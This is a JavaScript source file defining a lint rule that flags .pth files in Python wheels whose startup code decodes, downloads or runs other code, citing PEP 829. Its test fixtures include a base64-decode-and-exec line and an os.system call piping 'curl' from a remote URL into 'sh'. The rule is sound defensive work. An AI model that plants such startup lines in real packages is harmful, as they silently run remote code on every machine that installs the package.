import { within } from '../../src/place.js'
import { finding, quote, rule } from '../../src/rule.js'
import { plural } from '../../src/wording.js'
import { importLines, LONGEST_IMPORT, pathFiles, suspicion } from './_path-files.js'

export default rule({
  id: 'pth-suspicious-code',
  topic: 'contents',
  severity: 'error',
  applies: ['wheel'],
  enforcedBy: [],
  force: 'none',
  source: 'PEP 829, "Rationale"',
  url: 'https://peps.python.org/pep-0829/',
  summary: 'Code in a .pth file decodes, downloads or runs other code.',
  why: 'The code runs in every interpreter without being imported. Malicious packages often start this way.',
  breaks:
    'Whenever Python starts in the environment, it decodes, downloads or starts something that nobody requested, before any program runs.',
  fix: 'Move the code to a module, and call one of its functions from the `.pth` or `.start` file.',
  precision: 'high',
  securitySeverity: 5.5,
  bad: [
    { wheel: { files: { 'demo.pth': 'import base64; exec(base64.b64decode("cHJpbnQoMSk="))\n' } } },
    { wheel: { files: { 'demo.pth': 'import os; os.system("curl -s https://example.org/x | sh")\n' } } },
    { wheel: { files: { 'demo.pth': "import os; __import__('demo_' + os.environ['USER'])\n" } } },
    { wheel: { files: { 'demo-nspkg.pth': "import os; __import__('subprocess').run('demo')\n" } } },
  ],
  good: [
    { wheel: { files: { 'demo.pth': 'import demo; demo.hook()  # no subprocess\n' } } },
    {
      wheel: {
        files: {
          'demo.pth':
            "import platform; from os import environ; platform.system() == 'Windows' and environ.pop('X', '')\n",
        },
      },
    },
    { wheel: { files: { 'demo.pth': "import os; 'DEMO' in os.environ and __import__('_demo_hack').add_shim()\n" } } },
  ],
  *check(wheel) {
    for (const file of pathFiles(wheel, '.pth')) {
      for (const line of importLines(file)) {
        const found = suspicion(line.value)
        const lesser = found?.isAttack ? {} : ({ severity: 'warning' } as const)
        if (found && (found.isAttack || !file.isNspkg))
          yield finding(
            within(line, found.word),
            `${file.member} uses ${quote(found.word)} in code that runs whenever Python starts.`,
            lesser,
          )
        else if (line.value.length > LONGEST_IMPORT && !file.isNspkg)
          yield finding(
            line,
            `${file.member} contains a line of ${plural(line.value.length, 'character')} with code that runs whenever Python starts.`,
            lesser,
          )
      }
    }
  },
})
